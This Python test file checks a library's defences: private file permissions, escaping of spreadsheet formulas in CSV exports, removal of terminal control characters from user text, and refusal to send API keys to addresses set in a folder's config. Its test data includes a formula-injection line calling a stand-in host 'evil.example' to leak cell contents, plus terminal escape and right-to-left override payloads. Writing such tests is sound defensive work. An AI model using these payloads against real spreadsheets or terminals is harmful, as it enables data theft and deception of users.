"""Files, terminals and spreadsheets as ways in."""

from __future__ import annotations

import ast
import csv
import os
import socket
import sys
import unicodedata
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner

import heedful
from heedful import Heedful, Invalid, settings, transfer
from heedful.insight.export_files import escape_formula
from heedful.interfaces import cli
from heedful.interfaces.cli.main import cli as command
from heedful.interfaces.reports import write_report
from heedful.testing import WordEmbedder


@contextmanager
def umask(mask: int) -> Iterator[None]:
    before = os.umask(mask)
    try:
        yield
    finally:
        os.umask(before)


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


@pytest.mark.slow
def test_others_read_neither_the_store_nor_what_is_made_of_it(tmp_path: Path) -> None:
    with umask(0), heedful.open(tmp_path / "store.db", embedding=WordEmbedder(), worker=False) as store:
        store.remember("Ada is the CEO.")
        store.insight.export("facts", tmp_path / "facts.csv")
        write_report(store, tmp_path / "report.html")
        transfer.backup(tmp_path / "store.db", tmp_path / "backup.db")
        transfer.export_file(tmp_path / "store.db", tmp_path / "project.jsonl", project="default")
        made = {file.name: mode(file) for file in tmp_path.iterdir() if file.is_file()}
    assert set(made) >= {"store.db", "store.db-wal", "store.db-shm", "facts.csv", "backup.db", "project.jsonl"}
    assert set(made.values()) == {0o600}
    assert {mode(folder) for folder in tmp_path.iterdir() if folder.is_dir()} <= {0o700}


def test_a_store_that_others_may_read_is_left_so_and_told(open_store: Callable[..., Heedful], path: Path) -> None:
    store = open_store()
    path.chmod(0o644)
    [found] = [check for check in store.doctor() if check.name == "files"]
    assert not found.ok
    assert f"chmod go= {path}" in found.detail
    assert mode(path) == 0o644


@pytest.mark.parametrize("text", ["=1+1", "＝1+1", " ＋1", "\ufeff@SUM(1)", "\u200b－1", "\x00=1", "﹦1", "\t1", "\r1"])
def test_no_text_is_a_formula_in_a_spreadsheet(text: str) -> None:
    assert escape_formula(text) == "'" + text


def test_every_character_that_is_normalised_to_a_sign_is_escaped() -> None:
    signs = [sign for sign in map(chr, range(sys.maxunicode + 1)) if unicodedata.normalize("NFKC", sign) in {*"=+-@"}]
    assert len(signs) > 4
    for sign in signs:
        assert escape_formula(f"{sign}1") == f"'{sign}1"
        assert escape_formula(f"a;{sign}1") == f"a;'{sign}1"


@pytest.mark.parametrize(
    "text", ["fine", "a - b; c = d, e+f", "me@example.org; or call", "one\ntwo", "a | - | b", '"=" is a sign', "a,=1"]
)
def test_ordinary_texts_are_exported_as_they_are(text: str) -> None:
    assert escape_formula(text) == text


def test_a_long_run_of_separators_is_read_once() -> None:
    text = ";\n" * 500_000
    assert escape_formula(f"a{text}b") == f"a{text}b"


COMMENTS = [
    *("=1+1", "\n=1+1", "＝1+1", "\r\n\t=1+1", "fine", "nice;", 'nice;"', "nice\n", '"', "a;b\n"),
    'nice;=HYPERLINK("http://evil.example/?"&A1;"ok");x\nline2;=1+1',
    *(
        f"nice{before}{sign}1"
        for before in ("; ", "\t", "\n", "\r\n", ";;", '\n"', ';""', ";\ufeff")
        for sign in "=+-@＝"
    ),
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_comment_is_a_formula_in_an_export(store: Heedful, tmp_path: Path, delimiter: str) -> None:
    store.sessions.create("monday")
    for author, comment in enumerate(COMMENTS):
        store.sessions.add_session_feedback("monday", {"rating": "down", "comment": comment}, author=str(author))
    store.insight.export("feedback", tmp_path / "said.csv")
    with (tmp_path / "said.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, delimiter=delimiter))
    assert len(rows) > len(COMMENTS) or delimiter != ","
    for cell in (cell for row in rows for cell in row):
        first = unicodedata.normalize("NFKC", cell.strip(" \t\r\n\ufeff"))[:1]
        assert first not in {*"=+-@"}, cell


@pytest.mark.parametrize("text", ["\x1b]0;owned\x07", "\x9b31m", "\u202etxt.exe", "over\rwritten", "\x1b[2J"])
def test_what_people_wrote_does_not_steer_a_terminal(text: str, path: Path) -> None:
    with heedful.open(path, embedding=WordEmbedder(), worker=False) as store:
        store.sessions.create("monday")
        feedback = {"rating": "down", "comment": f"wrong {text}"}
        store.sessions.add_session_feedback("monday", feedback)
        with pytest.raises(Invalid, match="control or invisible"):
            store.sessions.add_session_feedback("monday", feedback, author=f"Eve{text}")
    for option in ([], ["--json"]):
        printed = CliRunner().invoke(command, ["--store", str(path), "sessions", "feedbacks", "monday", *option])
        assert printed.exit_code == 0, printed.output
        assert "wrong" in printed.output
        assert not set("\x1b\x9b\u202e\r\x07") & set(printed.output)


def test_the_command_line_prints_in_one_place_only() -> None:
    folder = Path(cli.__file__).parent
    for file in folder.glob("*.py"):
        calls = {ast.unparse(node.func) for node in ast.walk(ast.parse(file.read_text())) if isinstance(node, ast.Call)}
        assert file.name == "screen.py" or not calls & {"click.echo", "click.secho", "print", "Console"}, file.name


@pytest.mark.parametrize(
    ("setting", "key"),
    [
        ("store", "HEEDFUL_API_KEY"),
        ("language_model", "HEEDFUL_LANGUAGE_MODEL_API_KEY"),
        ("embedding", "HEEDFUL_EMBEDDING_API_KEY"),
    ],
)
def test_a_folders_file_does_not_choose_where_a_key_of_the_environment_is_sent(
    setting: str, key: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as thief:
        address = f"http://127.0.0.1:{thief.getsockname()[1]}"
        (tmp_path / "heedful.toml").write_text(f'{setting} = "{address}"\n')
        monkeypatch.setenv(key, "hf_secret-of-mine")
        ran = CliRunner().invoke(command, ["recall", "anything"])
        assert isinstance(ran.exception, Invalid), ran.output
        assert ran.exception.code == "key_not_for_file"
        assert f"HEEDFUL_{setting.upper()}={address}" in str(ran.exception)
        thief.setblocking(False)
        with pytest.raises(BlockingIOError):
            thief.accept()
        # Whoever names the address themselves means it.
        monkeypatch.setenv(f"HEEDFUL_{setting.upper()}", address)
        assert getattr(settings.load(), setting) == address
